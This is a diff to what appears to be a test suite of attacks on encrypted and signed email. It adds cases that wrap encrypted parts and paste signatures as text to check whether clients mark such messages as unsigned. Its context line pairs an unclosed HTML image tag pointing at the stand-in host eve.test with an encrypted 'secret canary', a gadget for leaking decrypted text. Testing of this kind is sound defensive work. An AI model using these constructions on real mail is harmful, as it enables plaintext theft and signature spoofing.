@@ -374,6 +374,19 @@ def an_encrypted_part_that_is_not_the_root(b, parts):
 
 
 @attack("unsigned", "sig.none")
+def sealed_in_openpgps_frame(b):
+    sealed = encrypt(b, detached(part(), sign(b.alice, part()))).rstrip(b"\r\n")
+    return head(ALICE) + multipart([part("Version: 1", "application/pgp-encrypted"), sealed], "encrypted",
+                                   parameters='; protocol="application/pgp-encrypted"')
+
+
+@each_attack("unsigned", "sig.none", {"PKCS7": "PKCS7", "CMS": "CMS", "MESSAGE": "PGP MESSAGE"})
+def a_signature_as_text(b, label):
+    der = base64.encodebytes(seal_opaque(b.alice, part())).decode()
+    return head(ALICE) + part(f"-----BEGIN {label}-----\n{der}-----END {label}-----")
+
+
+@attack("unsigned", "sig.none")
 def an_encrypted_part_in_an_encrypted_letter(b):
     inner = encrypt(b, part("the secret canary")).rstrip(b"\r\n")
     return head(ALICE) + encrypt(b, multipart([part('<img src="http://eve.test/', "text/html"), inner]))
